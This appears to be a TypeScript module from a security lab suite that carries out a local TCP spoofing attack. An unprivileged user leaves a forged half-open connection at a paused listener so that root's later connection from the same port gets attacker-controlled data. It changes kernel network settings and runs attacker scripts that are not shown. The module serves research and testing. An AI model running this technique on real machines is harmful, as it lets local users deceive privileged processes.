/**
 * Puts the two halves of an attack in order: an attacker who leaves half of a connection in the queue of a listener that
 * stands still, then a caller from the same port, and only then the listener goes on.
 */

import type { ChildProcessWithoutNullStreams } from 'node:child_process'
import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { createInterface } from 'node:readline'
import { PYTHON } from '../../kernel/agent.ts'
import type { Lab } from '../../kernel/lab.ts'

/** An attacker who may do nothing. */
export const NOBODY = { uid: 1000, gid: 1000 } as const

export interface Attack {
  readonly lab: Lab
  /** Stops and continues the process that listens. */
  readonly listener: { kill(signal: NodeJS.Signals): unknown }
  readonly listenerPort: number
  /** A script beside this file: what leaves the half behind. */
  readonly script: 'orphan.py' | 'reset.py' | 'squat.py' | 'neighbour.py'
  readonly sourcePort: number
  /** Lies in the half that is left behind. */
  readonly forged: string
  /** Root's connection, from the same port. */
  readonly caller: { readonly address: string; readonly port: number; readonly request: string }
}

export interface Outcome {
  /** States of the listener's half and of root's, from /proc/net/tcp, when the listener went on. */
  readonly left: TcpState | undefined
  readonly dialling: TcpState | undefined
  /** What root's client got: 0 and a status line, or an errno. */
  readonly root: { readonly errno: number; readonly answer: string }
}

/** Of the network namespace. */
const PORTS = '/proc/sys/net/ipv4/ip_local_port_range'
/**
 * Milliseconds after an answer to a packet that does not fit, in which a socket gives no other. An answer to root's first packet
 * makes root's socket reset the half. Usually it is half a second, which an attacker can keep and an emulated machine cannot.
 */
const SILENCE = '/proc/sys/net/ipv4/tcp_invalid_ratelimit'

/** Source: kernel net/tcp_states.h. */
const TCP_STATES = { '01': 'ESTABLISHED', '02': 'SYN_SENT', '08': 'CLOSE_WAIT' } as const
type TcpState = (typeof TCP_STATES)[keyof typeof TCP_STATES]

/** The others stay, and are ended with the attack. */
const LEAVES_AT_ONCE: ReadonlySet<Attack['script']> = new Set(['orphan.py', 'reset.py'])

/** Carries the attack out. @throws Error when a client does not say what it should */
export async function attack(options: Attack): Promise<Outcome> {
  const { lab, listener, listenerPort, sourcePort, caller } = options
  const isSquatted = options.script === 'squat.py'
  // What the kernel chooses is the port of the half; and for as long as it takes, the half does not answer root's first packet.
  const [setting, value] = isSquatted ? [PORTS, `${sourcePort} ${sourcePort}`] : [SILENCE, '60000']
  const usual = (await lab.run('cat', [setting])).stdout.trim()
  await write(lab, setting, value)
  let squatter: ChildProcessWithoutNullStreams | undefined
  listener.kill('SIGSTOP')
  try {
    const args = ['-c', sourceOf(options.script), String(sourcePort), String(listenerPort), options.forged]
    squatter = lab.spawn(PYTHON, args, NOBODY)
    await nextLine(squatter)
    if (LEAVES_AT_ONCE.has(options.script)) await once(squatter, 'close')

    const target = [isSquatted ? '0' : String(sourcePort), caller.address, String(caller.port), caller.request]
    const root = lab.spawn(PYTHON, ['-c', sourceOf('caller.py'), ...target])
    const lines = createInterface({ input: root.stdout })[Symbol.asyncIterator]()
    if ((await lines.next()).value !== 'dialling') throw new Error('root did not get to dial')
    // Of root's namespace, and at once: a second later its first packet would be sent again.
    const table = readFileSync(`/proc/${root.pid}/net/tcp`, 'latin1')
    // Who listens may have to dial as well.
    if (isSquatted) await write(lab, setting, usual)
    listener.kill('SIGCONT')
    const answer = await lines.next()
    if (answer.done) throw new Error('root ended without a word')
    return {
      left: stateOf(table, listenerPort, sourcePort),
      dialling: stateOf(table, sourcePort, listenerPort),
      root: JSON.parse(answer.value) as Outcome['root'],
    }
  } finally {
    listener.kill('SIGCONT')
    squatter?.kill('SIGKILL')
    await write(lab, setting, usual)
  }
}

/** Reads a script, for `python3 -c`: the file itself may lie where other users cannot read. */
export function sourceOf(script: string): string {
  return readFileSync(join(import.meta.dirname, script), 'utf8')
}

async function nextLine(child: ChildProcessWithoutNullStreams): Promise<void> {
  for await (const _ of createInterface({ input: child.stdout })) return
  throw new Error('the attacker ended without a word')
}

async function write(lab: Lab, setting: string, value: string): Promise<void> {
  const { code, stderr } = await lab.run('/bin/sh', ['-c', `echo ${value} > ${setting}`])
  if (code !== 0) throw new Error(`Cannot set ${setting}: ${stderr}`)
}

/** The state of the newest socket with these two ports; lines there are `sl local remote state …`, ports hexadecimal. */
export function stateOf(table: string, localPort: number, remotePort: number): TcpState | undefined {
  const hex = (port: number) => `:${port.toString(16).toUpperCase().padStart(4, '0')}`
  for (const line of table.split('\n')) {
    const [, local = '', remote = '', state = ''] = line.trim().split(/\s+/)
    if (!local.endsWith(hex(localPort)) || !remote.endsWith(hex(remotePort))) continue
    return TCP_STATES[state as keyof typeof TCP_STATES]
  }
  return undefined
}
